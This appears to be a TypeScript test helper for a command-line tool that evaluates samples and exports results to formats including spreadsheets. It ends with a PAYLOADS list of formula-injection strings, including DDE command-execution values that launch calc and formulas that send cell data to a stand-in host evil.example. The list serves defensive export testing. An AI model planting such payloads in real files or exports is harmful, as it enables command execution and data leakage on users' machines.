import { readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import PizZip from 'pizzip';
import { exporters } from '../../../src/edge/export/list.js';
import { folderWith, zhunsheng } from '../world.js';

/** The words of a command line that ask for every export, each into a file of its own in `folder`. */
export function everyExport(folder: string): readonly string[] {
  return exporters.flatMap(({ format, endings: [ending] }) => ['--export', `${format}=${folder}/${format}${ending}`]);
}

/** Judges in a folder and writes every export. Out: what the command said, and the texts by format. */
export async function exported(cwd: string, words: readonly string[], lang: 'zh' | 'en' = 'zh') {
  const run = await zhunsheng(cwd, ['evaluate', ...words, '--lang', lang, ...everyExport('exported')]);
  const written = (file: string) => (file.endsWith('.xlsx') ? partsOf : String)(readFileSync(join(cwd, 'exported', file)));
  const own = new Map(exporters.map(({ format, endings: [ending] }) => [`${format}${ending}`, format]));
  // What lies beside a document is there under its own name.
  const texts = new Map(readdirSync(join(cwd, 'exported')).map((file) => [own.get(file) ?? file, written(file)]));
  return { ...run, text: (format: string) => texts.get(format) ?? '', texts };
}

/** Every part of a workbook, one below the other. */
function partsOf(bytes: Uint8Array): string {
  const zip = new PizZip(bytes);
  return Object.keys(zip.files)
    .map((name) => zip.file(name)?.asText() ?? '')
    .join('\n');
}

/** The delivered samples judged by the delivered rules, in a working folder that has neither in it. */
export function exportedSamples(lang: 'zh' | 'en' = 'zh', audience: 'public' | 'internal' = 'public') {
  const words = [resolve('rules/henan-2017'), resolve('samples'), '--on', '2017-08-20', '--audience', audience];
  return exported(folderWith(), words, lang);
}

/** Texts that do harm where they are taken for something else than text: formulas, markup, steering, paths. */
export const PAYLOADS: readonly string[] = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
  '=WEBSERVICE("http://evil.example/")',
  '=IMPORTXML("http://evil.example/","//a")',
  '+1+1',
  '+86 13800138000',
  '-1+1',
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@import',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\t市局',
  '\r市局',
  ' =1+1',
  '\u3000=1+1',
  '\u00a0+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '\u0000=1+1',
  '\u001b=1+1',
  '＝1＋1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '−1+1',
  '﹢1',
  '=1,"2"',
  '="a""b"',
  '=1\n=2',
  '=DDE("cmd";"/C calc";"1")',
  '-',
  '=',
];
